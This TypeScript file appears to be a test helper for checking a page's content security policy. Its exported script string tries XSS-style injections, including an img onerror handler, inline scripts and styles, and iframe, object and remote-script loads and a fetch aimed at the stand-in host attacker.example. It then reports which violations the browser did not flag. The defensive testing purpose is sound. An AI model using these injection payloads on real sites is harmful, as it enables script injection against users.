/** What happened when a page tried to do what its content security policy forbids. */
export interface AttackResult {
  /** A script ran that isn't the page's own. */
  readonly attacked: boolean;
  readonly fetched: boolean;
  readonly position: string;
  readonly display: string;
  /** The directives whose violation the browser did not report. */
  readonly notReported: readonly string[];
}

const directives = [
  'connect-src',
  'frame-src',
  'img-src',
  'object-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

/**
 * A script for a page: tries to load, run, style, embed and fetch what isn't the page's own. It sends no form: that is
 * blocked as well, but then Chromium shows an error page in the page's place.
 */
export const attack = `(async () => {
  const notReported = new Set(${JSON.stringify(directives)});
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    notReported.delete(effectiveDirective),
  );
  const add = (html) => {
    document.body.insertAdjacentHTML('beforeend', '<div class="attack">' + html + '</div>');
  };
  add('<img src=x onerror="globalThis.attacked = 1">');
  add('<img src="https://attacker.example/x.png">');
  add('<p style="position: fixed" id="styled">x</p>');
  add('<style>body { display: none }</style>');
  add('<iframe src="https://attacker.example/"></iframe>');
  add('<object data="https://attacker.example/"></object>');
  const script = document.createElement('script');
  script.textContent = 'globalThis.attacked = 2';
  document.body.append(script);
  const remote = document.createElement('script');
  remote.src = 'https://attacker.example/x.js';
  document.body.append(remote);
  const fetched = await fetch('https://attacker.example/').then(
    () => true,
    () => false,
  );
  setTimeout('globalThis.attacked = 3');
  // The browser reports violations some time later. What it does not report is in the result.
  for (let waits = 0; waits < 4 || (notReported.size > 0 && waits < 200); waits++)
    await new Promise((resolve) => setTimeout(resolve, 100));
  const styled = document.getElementById('styled');
  const result = {
    attacked: 'attacked' in globalThis,
    fetched,
    position: styled && getComputedStyle(styled).position,
    display: getComputedStyle(document.body).display,
    notReported: [...notReported],
  };
  for (const element of document.querySelectorAll('.attack, script:not([nonce])')) element.remove();
  return result;
})()`;
